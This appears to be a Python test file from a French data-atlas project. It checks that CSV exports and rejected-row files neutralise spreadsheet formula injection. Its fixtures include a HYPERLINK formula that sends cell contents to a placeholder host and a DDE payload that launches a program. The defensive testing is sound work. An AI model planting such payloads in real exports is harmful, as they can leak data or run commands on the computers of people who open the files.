"""No CSV the atlas writes hands a live spreadsheet formula back (exports and rejected rows)."""

import csv
import io

import pandas as pd

from atlas.exports import csv_fr
from commun.tableur import neutraliser_formule

HYPERLIEN = '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez")'


def _cells(data: bytes) -> list[list[str]]:
    lignes = [ligne for ligne in data.decode("utf-8-sig").splitlines() if not ligne.startswith("# ")]
    return list(csv.reader(lignes, delimiter=";"))


def test_a_hyperlink_formula_in_an_exported_table_is_written_as_text():
    frame = pd.DataFrame(
        {"structure": [HYPERLIEN, "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "\tx", "\r=1"], "n": range(6)}
    )
    cells = [row[0] for row in _cells(csv_fr(frame))[1:]]
    assert all(c.startswith("'") for c in cells), cells
    assert cells[0] == "'" + HYPERLIEN


def test_numbers_and_plain_text_are_exported_unchanged():
    frame = pd.DataFrame({"texte": ["-3,5", "+12", "Saint-Nazaire", "< 5", "-"], "valeur": [-3.5, 2.0, 1.0, 0.0, -1.0]})
    rows = _cells(csv_fr(frame))[1:]
    assert [r[0] for r in rows] == ["-3,5", "+12", "Saint-Nazaire", "< 5", "'-"]
    assert [r[1] for r in rows] == ["-3,5", "2,0", "1,0", "0,0", "-1,0"]


def test_a_formula_in_a_column_name_is_written_as_text():
    assert _cells(csv_fr(pd.DataFrame({"=1+1": [1]})))[0] == ["'=1+1"]


def test_rejected_visit_rows_do_not_give_a_formula_back(tmp_path):
    from etl.visits import write_rejects

    source = tmp_path / "visites.csv"
    rejected = pd.DataFrame({"ligne": [2], "colonne": ["canal"], "valeur": [HYPERLIEN], "motif": ["canal inconnu"]})
    data = write_rejects(source, rejected).read_bytes()
    assert _cells(data)[1][2] == "'" + HYPERLIEN


def test_rejected_service_rows_do_not_give_a_formula_back(tmp_path):
    from etl.report import LoadReport
    from etl.services_import import write_rejects

    report = LoadReport("services", tmp_path / "sites.csv", "sites.csv")
    report.reject(2, "nom", HYPERLIEN, "nom vide")
    report.reject(3, "type", "@cmd", "type inconnu")
    data = write_rejects(report, tmp_path / "sites.csv").read_bytes()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][2] == "'" + HYPERLIEN and rows[2][2] == "'@cmd"


def test_only_strings_are_touched():
    assert neutraliser_formule(-3) == -3 and neutraliser_formule(None) is None
